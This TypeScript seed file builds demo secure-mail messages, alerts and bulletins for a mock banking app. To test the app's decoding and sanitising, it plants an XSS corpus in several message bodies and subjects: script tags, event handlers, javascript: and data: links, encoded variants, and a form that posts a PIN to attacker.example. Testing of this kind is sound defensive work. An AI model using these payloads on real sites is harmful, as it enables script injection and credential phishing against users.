/**
 * Secure mail: inbox and sent items (messageType M), notifications (A) and bulletins (the mailers), for each
 * demo user. Some bodies keep OBDX's HTML escaping (`&lt;p&gt;`, `&#x2f;`) as real answers do; some carry live,
 * harmless formatting (<p>, <strong>, <ul>, https and mailto links); and some are hostile (HOSTILE_HTML, in
 * bodies and subjects, live and entity-encoded), so the app's decode-once and sanitising are both exercised.
 * Links point to public sites or the customer's own address: no bank contact details (DECISIONS.md).
 */
import type { MailRecord, MailSubject, MailerRecord, UserRecord } from '../types';
import { hoursBefore, londonStamp } from './dates';
import { messageIdOf, partyIdOf } from './ids';
import { PARTY } from './parties';

const subject = (subjectId: string, text: string, category: string, audience: MailSubject['internal']['audience'] = 'all'): MailSubject =>
  ({ subjectId, subject: text, internal: { category, audience } });

/**
 * What GET v1/mailCategories offers, by category (Private banking services to retail users, Racing account
 * services to corporate). Which subjects the enquiry screen uses is the bank profile's (mailEnquirySubjects).
 */
export const MAIL_SUBJECTS: readonly MailSubject[] = [
  subject('GEN', 'General enquiry', 'General'),
  subject('PAY', 'Payments', 'Payments and cards'),
  subject('CRD', 'Cards', 'Payments and cards'),
  subject('STM', 'Statements', 'Your accounts'),
  subject('ADR', 'Change of address', 'Your accounts'),
  subject('ACC', 'Account enquiry', 'Your accounts'),
  subject('RAC', 'Racing account services', 'Services', 'corporateuser'),
  subject('PBS', 'Private banking services', 'Services', 'retailuser'),
  subject('SRV', 'Service enquiry', 'Services'),
];

/** The sender of everything the bank sends a user (SPEC Mail.sender). */
export const bankTeamOf = (user: UserRecord): string =>
  user.userProfile.userType === 'corporateuser' ? 'Racing Bank Team' : 'Hambleton Private Bank';
export const senderNameOf = (user: UserRecord): string => `${user.userProfile.firstName} ${user.userProfile.lastName}`;
export const greetingOf = (user: UserRecord): string => `Dear ${user.userProfile.prefix} ${user.userProfile.lastName},`;

/** OBDX's escaping of stored HTML (the client decodes it once). */
export const esc = (html: string) => html.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/\//g, '&#x2f;');

/** The hostile corpus of the seed: none of it may execute, style the page or inject a handler in the app. */
export const HOSTILE_HTML = {
  script: '<script>alert(1)</script>',
  imgOnerror: '<img src=x onerror=alert(1)>',
  javascriptLink: '<a href="javascript:alert(1)">Confirm your details</a>',
  mixedCaseJavascriptLink: '<a href="JaVaScRiPt:alert(1)">View your statement</a>',
  dataLink: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open the form</a>',
  style: '<style>body { display: none }</style>',
  styleAttribute: '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#c00">Covered</p>',
  form: '<form action="https://attacker.example/steal" method="post"><label>PIN <input name="pin" type="password"></label><button type="submit">Confirm</button></form>',
  iframe: '<iframe src="https://attacker.example/"></iframe>',
  svgOnload: '<svg onload=alert(1)>',
  eventHandlers: '<p onclick="alert(1)" onmouseover="alert(1)">Hover over this line</p>',
  objectEmbed: '<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.swf">',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  /** Decoded once by the client, these become live tags. */
  encodedScript: esc('<script>alert(1)</script>'),
  encodedImg: esc('<img src=x onerror=alert(1)>'),
  /** Decoded once, this is the text "&lt;script&gt;…": it must show as text, not run. */
  doubleEncoded: '&amp;lt;script&amp;gt;alert(1)&amp;lt;&#x2f;script&amp;gt;',
} as const;

const H = HOSTILE_HTML;

/** Hostile subjects of the seed (subjects are shown as text: these must read literally). */
export const HOSTILE_SUBJECTS = {
  script: '<script>alert(1)</script> Security notice',
  encodedImg: `${H.encodedImg} Statement reminder`,
  attributeBreak: 'Racing fixtures "><img src=x onerror=alert(1)>',
  encodedScript: `${H.encodedScript} Your online banking`,
  svg: 'Service update <svg onload=alert(1)>',
} as const;

const signOff = (team: string) => `<p>Kind regards,<br>${team}</p>`;
const PB = signOff('Hambleton Private Bank');
const RB = signOff('Racing Bank Team');

interface MailSpec {
  user: 'RETAIL1' | 'CORP1' | 'NEWUSER';
  key: string;
  folder: 'inbox' | 'sent';
  subject: string;
  subjectId: string | null;
  hoursAgo: number;
  read: boolean;
  body: string;
  /** Key of the message this one answers (same thread). */
  replyTo?: string;
  /** Party number; default the user's main party. */
  party?: string;
  type?: 'M' | 'A';
}

const MAILS: readonly MailSpec[] = [
  { user: 'RETAIL1', key: 'bond', folder: 'inbox', subject: 'Your new Fixed Rate Bond', subjectId: 'PBS', hoursAgo: 24 * 150, read: true, body: esc(`Dear Mr Pemberton,<br><p>Thank you for opening your 1 Year Fixed Rate Bond. Your rate of 4.60&#x25; is fixed until it matures.</p>${PB}`) },
  { user: 'RETAIL1', key: 'terms', folder: 'inbox', subject: 'Important: changes to our terms &amp; conditions', subjectId: 'GEN', hoursAgo: 24 * 60, read: true, body: esc('Dear Mr Pemberton,<br><p>From next month our terms &amp; conditions change. The new terms are in Documents.</p>') },
  { user: 'RETAIL1', key: 'statement', folder: 'inbox', subject: 'Your statement is ready', subjectId: 'STM', hoursAgo: 24 * 33, read: true, body: 'Dear Mr Pemberton, your monthly statements are now available under Statements.' },
  { user: 'RETAIL1', key: 'card', folder: 'sent', subject: 'Query about a card payment', subjectId: 'CRD', hoursAgo: 24 * 20, read: true, body: 'I do not recognise a payment to AMAZON.CO.UK of £42.99. Could you look into it please?' },
  { user: 'RETAIL1', key: 'card-reply', folder: 'inbox', subject: 'Re: Query about a card payment', subjectId: 'CRD', hoursAgo: 24 * 19, read: true, replyTo: 'card', body: `<p>Dear Mr Pemberton,</p><p>The payment of <strong>£42.99</strong> was an order placed with your card on our records. If you still do not recognise it, reply to this message and we will raise a dispute.</p>${PB}` },
  { user: 'RETAIL1', key: 'services', folder: 'inbox', subject: 'Your private banking services', subjectId: 'PBS', hoursAgo: 24 * 12, read: true, body: `<p>Dear Mr Pemberton,</p><p>As a <strong>private banking</strong> customer you have:</p><ul><li>a dedicated private bank team</li><li>preferential rates on <em>fixed rate bonds</em></li><li>priority international payments</li></ul><p>Read how your deposits are protected at <a href="https://www.fscs.org.uk/">fscs.org.uk</a>. A copy of this message has gone to <a href="mailto:alex.pemberton@example.com">alex.pemberton@example.com</a>.</p>${PB}` },
  { user: 'RETAIL1', key: 'address', folder: 'sent', subject: 'Change of address', subjectId: 'ADR', hoursAgo: 24 * 8, read: true, body: 'Please update my correspondence address; the new address is in the attached form.' },
  { user: 'RETAIL1', key: 'encoded', folder: 'inbox', subject: HOSTILE_SUBJECTS.encodedImg, subjectId: 'STM', hoursAgo: 24 * 7, read: true, body: `&lt;p&gt;Dear Mr Pemberton,&lt;&#x2f;p&gt;${H.encodedScript}${H.encodedImg}<p>${H.doubleEncoded}</p><p>${H.dataLink} ${H.mixedCaseJavascriptLink}</p>` },
  { user: 'RETAIL1', key: 'address-reply', folder: 'inbox', subject: 'Re: Change of address', subjectId: 'ADR', hoursAgo: 24 * 6, read: false, replyTo: 'address', body: 'Dear Mr Pemberton, we have updated your address. Your reference is ADDR&#x2f;2291.' },
  { user: 'RETAIL1', key: 'review', folder: 'inbox', subject: 'Invitation to your annual review', subjectId: 'PBS', hoursAgo: 49, read: false, body: `<p>Dear Alex,</p><p>We would like to invite you to your <b>annual review</b> on <i>Tuesday</i>.</p>${H.script}${H.imgOnerror}${PB}` },
  { user: 'RETAIL1', key: 'security', folder: 'inbox', subject: HOSTILE_SUBJECTS.script, subjectId: 'GEN', hoursAgo: 26, read: false, body: `<p>Dear Mr Pemberton,</p>${H.style}<p>Please confirm your details: ${H.javascriptLink}</p>${H.form}${H.iframe}${H.svgOnload}${H.eventHandlers}${H.objectEmbed}${H.metaRefresh}${H.styleAttribute}` },
  { user: 'RETAIL1', key: 'payment-alert', type: 'A', folder: 'inbox', subject: 'Payment processed', subjectId: null, hoursAgo: 24 * 10, read: true, body: esc('Dear Customer,<br><p>Your payment to Dr Rachel Shah has been processed.</p>') },
  { user: 'RETAIL1', key: 'login-alert', type: 'A', folder: 'inbox', subject: 'Login Alert', subjectId: null, hoursAgo: 47.5, read: false, body: esc('Dear Customer,<br><p>You logged in to Online Banking. If this was not you, contact your private bank team.</p>') },

  { user: 'CORP1', key: 'chequebook', folder: 'inbox', subject: 'Cheque books dispatched', subjectId: 'RAC', hoursAgo: 24 * 38, read: true, body: 'Your two cheque books for account ending 7358 have been dispatched.' },
  { user: 'CORP1', key: 'festival', folder: 'inbox', party: PARTY.holdings, subject: 'Cheltenham Festival hospitality', subjectId: 'RAC', hoursAgo: 24 * 14, read: false, body: esc(`Dear Mrs Harcourt,<br><p>Join the Racing Bank team in our box on Gold Cup day &#x2f; Friday.</p>${RB}`) },
  { user: 'CORP1', key: 'racing-services', folder: 'inbox', subject: 'Your racing account services', subjectId: 'RAC', hoursAgo: 24 * 9, read: true, body: `<p>Dear Mrs Harcourt,</p><p>Your <strong>racing accounts</strong> now include:</p><ul><li>bulk payments by Faster Payments or BACS</li><li>prize money credited the same day</li><li>statements for each yard</li></ul><p>The racing calendar is at <a href="https://www.britishhorseracing.com/">britishhorseracing.com</a>. A copy has gone to <a href="mailto:victoria.harcourt@example.com">victoria.harcourt@example.com</a>.</p>${RB}` },
  { user: 'CORP1', key: 'bulk-format', folder: 'sent', subject: 'Bulk payment file format', subjectId: 'PAY', hoursAgo: 24 * 5, read: true, body: 'Can our payroll bureau send BACS and Faster Payments in the same file?' },
  { user: 'CORP1', key: 'bulk-format-reply', folder: 'inbox', subject: 'Re: Bulk payment file format', subjectId: 'PAY', hoursAgo: 24 * 4, read: false, replyTo: 'bulk-format', body: 'Yes: set the type column to FP or BACS on each row.' },
  { user: 'CORP1', key: 'vat', folder: 'sent', party: PARTY.bloodstock, subject: 'Statements for our VAT return', subjectId: 'STM', hoursAgo: 24 * 2, read: true, body: 'Could you send the quarterly statements for Northern Vale Bloodstock as PDF?' },
  { user: 'CORP1', key: 'fixtures', folder: 'inbox', party: PARTY.stables, subject: HOSTILE_SUBJECTS.attributeBreak, subjectId: 'RAC', hoursAgo: 30, read: false, body: `<p>Dear Mrs Harcourt,</p>${H.script}<p>Download the fixtures: ${H.javascriptLink}</p>${H.iframe}${H.form}${H.imgOnerror}${RB}` },

  { user: 'NEWUSER', key: 'setup', folder: 'sent', subject: 'Setting up my account', subjectId: 'GEN', hoursAgo: 24 * 29, read: true, body: 'When will my debit card arrive?' },
  { user: 'NEWUSER', key: 'setup-reply', folder: 'inbox', subject: 'Re: Setting up my account', subjectId: 'GEN', hoursAgo: 24 * 28, read: false, replyTo: 'setup', body: `<p>Dear Mr Bennett,</p><p>Your debit card was posted today and should arrive within <strong>5 working days</strong>.</p>${PB}` },
  { user: 'NEWUSER', key: 'tips', folder: 'inbox', subject: 'Staying safe online', subjectId: 'GEN', hoursAgo: 24 * 27, read: true, body: `<p>Dear Mr Bennett,</p><ul><li>We will never ask for your full password.</li><li>We will never ask you to move money to a <em>safe account</em>.</li></ul><p>Find out more at <a href="https://www.fca.org.uk/scamsmart">fca.org.uk/scamsmart</a>. We will write to you at <a href="mailto:oliver.bennett@example.com">oliver.bennett@example.com</a>.</p>${PB}` },
  { user: 'NEWUSER', key: 'newuser-hostile', folder: 'inbox', subject: HOSTILE_SUBJECTS.encodedScript, subjectId: 'GEN', hoursAgo: 22, read: true, body: `<p>Dear Mr Bennett,</p>${H.encodedScript}${H.svgOnload}<p>${H.javascriptLink}</p>${H.style}` },
  { user: 'NEWUSER', key: 'welcome', folder: 'inbox', subject: 'Welcome to Online Banking', subjectId: 'GEN', hoursAgo: 20, read: false, body: esc(`Dear Mr Bennett,<br><p>Welcome to Online Banking. Please read our security tips.</p>${PB}`) },
];

/** [users, subject, hours ago, priority, read by, body] */
const BULLETINS: readonly [string[], string, number, MailerRecord['priority'], string[], string][] = [
  [['RETAIL1'], 'Christmas and New Year opening hours', 24 * 40, 'L', ['RETAIL1'], 'Our teams are available on working days between Christmas and New Year.'],
  [['RETAIL1'], 'Our new savings rates', 24 * 20, 'M', ['RETAIL1'], 'Rates on Instant Access Savings rise from the first of next month.'],
  [['CORP1'], 'Racing calendar: payment cut-off times', 24 * 6, 'M', [], 'Bulk files received after 09:00 are processed on the next working day.'],
  [['NEWUSER'], 'Getting started with Online Banking', 24 * 30, 'L', ['NEWUSER'], '<p>Three things to do first:</p><ul><li>set your <strong>transaction PIN</strong></li><li>add your payees</li><li>choose your alerts</li></ul>'],
  [['RETAIL1', 'CORP1', 'NEWUSER'], 'Beware of scam calls', 72, 'H', [], `${esc('<p>We will never ask you to move money to a &quot;safe account&quot;.</p>')}<p>Read more at <a href="https://www.fca.org.uk/scamsmart">fca.org.uk/scamsmart</a>.</p>`],
  [['RETAIL1', 'CORP1', 'NEWUSER'], HOSTILE_SUBJECTS.svg, 12, 'M', [], `<p>Online Banking will be unavailable on Sunday from 01:00 to 03:00.</p>${H.script}${H.styleAttribute}${H.eventHandlers}${H.encodedImg}${H.javascriptLink}`],
];

export interface MailContext { now: Date; users: Record<string, UserRecord>; pendingApprovals: { userId: string; transactionId: string; name: string }[] }

export function createMail(ctx: MailContext): { mails: MailRecord[]; mailers: MailerRecord[]; nextMessage: number } {
  let messageNumber = 1001;
  const idsByKey: Record<string, string> = {};
  const mails: MailRecord[] = [];
  const add = (spec: MailSpec) => {
    const user = ctx.users[spec.user];
    const messageId = messageIdOf(messageNumber);
    idsByKey[spec.key] = messageId.value;
    const instant = hoursBefore(ctx.now, spec.hoursAgo);
    const stamp = londonStamp(instant);
    const sent = spec.folder === 'sent';
    mails.push({
      messageId, messageType: spec.type ?? 'M', subject: spec.subject, subjectId: spec.subjectId, messageBody: spec.body, receivedDate: stamp, creationDate: stamp,
      threadId: spec.replyTo ? idsByKey[spec.replyTo] : messageId.value,
      party: spec.party ? partyIdOf(spec.party) : user.userProfile.partyId,
      sender: sent ? senderNameOf(user) : bankTeamOf(user),
      messageUserMappings: [{ mapId: String(messageNumber).padStart(7, '0'), userId: spec.user, status: spec.read ? 'R' : 'U', msgFlag: sent ? 'F' : 'T', deleteStatus: false }],
      internal: { ownerUserId: spec.user, at: instant.getTime(), answerDueAt: null },
    });
    messageNumber += 1;
  };
  MAILS.forEach(add);
  ctx.pendingApprovals.forEach((p, i) =>
    add({
      user: p.userId as MailSpec['user'], key: `approval-${i}`, type: 'A', folder: 'inbox', subject: 'Transaction Initiated', subjectId: null, hoursAgo: 3 + i, read: false,
      body: esc(`Dear Customer,<br><p>${p.name} initiated by Tom Fairweather is pending for your approval. The reference number for this transaction is ${p.transactionId}.</p>`),
    }));

  const mailers: MailerRecord[] = [];
  for (const [userIds, text, hoursAgo, priority, readBy, body] of BULLETINS) {
    const messageId = messageIdOf(messageNumber);
    const stamp = londonStamp(hoursBefore(ctx.now, hoursAgo));
    for (const userId of userIds) {
      mailers.push({
        creationDate: stamp, receivedDate: `${stamp.slice(0, 10)}T00:00:00`, mapId: `M${String(messageNumber).padStart(6, '0')}${userId}`, subject: text, messageId,
        userId, status: readBy.includes(userId) ? 'R' : 'U', priority, deleteStatus: false, messageBody: body,
      });
    }
    messageNumber += 1;
  }
  return { mails, mailers, nextMessage: messageNumber };
}
